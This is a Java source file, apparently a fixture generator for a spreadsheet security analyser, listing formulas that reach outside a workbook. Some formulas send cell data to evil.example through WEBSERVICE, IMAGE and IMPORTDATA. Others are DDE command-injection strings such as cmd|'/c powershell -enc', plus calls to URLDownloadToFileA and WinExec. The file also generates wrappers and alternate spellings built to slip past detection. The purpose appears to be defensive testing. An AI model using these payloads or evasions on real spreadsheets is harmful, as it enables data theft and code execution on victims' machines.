package dev.deckhand.analysis;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;

/** Formulas that reach outside a workbook, each behind every disguise that goes with it. */
public final class DisguisedExits {
  private static final List<String> CALLS =
      List.of(
          "WEBSERVICE(\"https://evil.example/?\"&A1)",
          "IMAGE(\"https://evil.example/?\"&A1)",
          "HYPERLINK(\"https://evil.example/?\"&A1,\"Total\")",
          "HYPERLINK(A1)",
          "RTD(\"prog.id\",,\"topic\",A1)",
          "FILTERXML(WEBSERVICE(A1),\"//a\")",
          "STOCKHISTORY(A1,TODAY())",
          "COPILOT(\"Summarise\",A1:A9)",
          "PY(0,\"print(1)\",A1)",
          "TRANSLATE(A1,\"en\",\"de\")",
          "DETECTLANGUAGE(A1)",
          "CUBEVALUE(\"conn\",A1)",
          "CUBEMEMBER(\"conn\",A1)",
          "CUBESET(\"conn\",A1)",
          "IMPORTDATA(\"https://evil.example/?\"&A1)",
          "IMPORTXML(A1,\"//a\")",
          "IMPORTHTML(A1,\"table\",1)",
          "IMPORTRANGE(A1,\"A1\")",
          "IMPORTFEED(A1)",
          "IMPORTTEXT(A1)",
          "IMPORTCSV(A1)",
          "GOOGLEFINANCE(A1)",
          "SQL.REQUEST(\"DSN=x\",,2,A1)",
          "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,A1)",
          "REGISTER.ID(\"kernel32\",\"WinExec\")",
          "EXEC(\"calc.exe\")",
          "DDE(\"cmd\",\"/c calc\",\"x\")",
          "EVALUATE(A1)",
          "GET.WORKSPACE(1)",
          "_xll.Bloomberg(A1)",
          "BDP(A1,\"PX_LAST\")",
          "SomeAddInFunction(A1)",
          // the same functions as other languages call them: unknown names fail closed
          "WEBDIENST(A1)",
          "SERVICEWEB(A1)",
          "SERVICIOWEB(A1)",
          "BILD(A1)",
          "LIEN_HYPERTEXTE(A1)",
          "EUROCONVERT(1,\"DEM\",\"EUR\")");

  private static final List<String> PLACES =
      List.of(
          "[1]Sheet1!A1",
          "'[book.xlsx]Sheet1'!A1",
          "'C:\\data\\[book.xlsx]Sheet1'!A1",
          "'\\\\evil.example\\share\\[book.xlsx]Sheet1'!A1",
          "'https://evil.example/[book.xlsx]Sheet1'!A1",
          "'//evil.example/share/[book.xlsx]Sheet1'!A1",
          "[1]!TaxRate",
          "'book.xlsx'!TaxRate",
          "book.xlsx!TaxRate",
          "cmd|'/c calc'!A1",
          "cmd|'/c powershell -enc AAAA'!_xlbgnm.A1",
          "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
          "INDIRECT(\"'[book.xlsx]Sheet1'!A1\")",
          "INDIRECT(\"'\\\\evil.example\\share\\[b.xlsx]S'!A\"&ROW())",
          "INDIRECT(\"'[\"&A1&\"]Sheet1'!A1\")",
          "INDIRECT(CHAR(39)&CHAR(91)&A1&CHAR(93)&\"S'!A1\")",
          "INDIRECT(A1&UNICHAR(90+2)&\"x\")",
          "INDIRECT(CONCAT(\"cmd\",\"|\",\"'/c calc'!A1\"))",
          "INDIRECT(SUBSTITUTE(\"(b.xlsx)S!A1\",\"(\",\"[\"))",
          "INDIRECT(\"R1C1[\"&A1,FALSE)");

  private DisguisedExits() {}

  /** Where a formula can hide within another. */
  private static final List<UnaryOperator<String>> WRAPPERS =
      List.of(
          f -> f,
          f -> "1+" + f,
          f -> "-(" + f + ")",
          f -> "IF(A1>0,0," + f + ")",
          f -> "IFERROR(" + f + ",\"\")",
          f -> "SUM(1,2,N(" + f + "))",
          f -> "LET(x," + f + ",x&\"\")",
          f -> "LAMBDA(u,u)(" + f + ")",
          f -> "_xlfn.LET(_xlpm.total," + f + ",_xlpm.total)",
          f -> "MAP(A1:A3,LAMBDA(v,v&" + f + "))",
          f -> "\"total: \"&" + f,
          f -> "CHOOSE(2,A1," + f + ")",
          f -> "A1:INDEX(A:A,LEN(" + f + "))",
          f -> " \n " + f + " ");

  /** How a function's name can be written. */
  private static final List<UnaryOperator<String>> SPELLINGS =
      List.of(
          f -> f.toLowerCase(Locale.ROOT),
          DisguisedExits::mixed,
          f -> "_xlfn." + f,
          f -> "_XLFN._xlws." + f,
          f -> f.replaceFirst("\\(", " ("),
          f -> "@" + f);

  /** All of them, each once. */
  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String call : CALLS) {
      WRAPPERS.forEach(wrapper -> all.add(wrapper.apply(call)));
      SPELLINGS.forEach(spelling -> all.add(spelling.apply(call)));
      SPELLINGS.forEach(spelling -> all.add("IF(A1,LET(k," + spelling.apply(call) + ",k),\"ok\")"));
    }
    for (String place : PLACES) {
      WRAPPERS.forEach(wrapper -> all.add(wrapper.apply(place)));
    }
    all.addAll(asValues());
    return new ArrayList<>(all);
  }

  /** Functions handed on instead of called, and formulas that are none. */
  private static List<String> asValues() {
    return List.of(
        "MAP(A1:A3,WEBSERVICE)",
        "BYROW(A1:B3,_xleta.WEBSERVICE)",
        "LET(f,WEBSERVICE,f(A1))",
        "LET(f,IMAGE,g,LAMBDA(u,f(u)),g(A1))",
        "REDUCE(0,A1:A3,_xlfn.WEBSERVICE)",
        "WEBSERVICE(",
        "SUM(A1))",
        "=cmd|'/c calc'!A1");
  }

  private static String mixed(String text) {
    StringBuilder mixed = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      mixed.append(i % 2 == 0 ? Character.toUpperCase(c) : Character.toLowerCase(c));
    }
    return mixed.toString();
  }
}
